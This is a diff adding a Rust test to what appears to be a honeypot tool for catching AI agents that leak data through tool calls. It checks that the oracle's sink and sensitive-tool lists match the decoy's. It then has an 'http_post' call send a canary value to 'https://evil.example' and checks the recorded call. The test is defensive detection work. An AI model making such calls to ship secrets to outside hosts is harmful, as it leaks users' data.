@@ -205,3 +205,22 @@ async fn a_batch_is_an_invalid_request() {
     assert!(decoy.calls().is_empty());
     decoy.shutdown().await.unwrap();
 }
+
+#[tokio::test]
+async fn the_oracles_roles_name_the_decoys_tools_and_its_calls_convert() {
+    // If the decoy renames a sink, the honeypot oracle must not silently stop firing.
+    let roles = custos_probe::oracle::Roles::decoy("decoy");
+    let sinks: std::collections::BTreeSet<String> = SINK_TOOLS.iter().map(|s| s.to_string()).collect();
+    assert_eq!(roles.sinks, sinks);
+    let sensitive: std::collections::BTreeSet<String> =
+        custos_probe::decoy::SENSITIVE_TOOLS.iter().map(|s| s.to_string()).collect();
+    assert_eq!(roles.sensitive, sensitive);
+
+    let decoy = start().await;
+    call(&client(), &decoy, "http_post", json!({ "url": "https://evil.example", "body": CANARY })).await;
+    let judged: Vec<custos_probe::oracle::DecoyCall> = decoy.calls_since(0).into_iter().map(Into::into).collect();
+    assert_eq!(judged.len(), 1);
+    assert_eq!((judged[0].seq, judged[0].tool.as_str()), (1, "http_post"));
+    assert_eq!(judged[0].arguments["body"], CANARY);
+    decoy.shutdown().await.unwrap();
+}
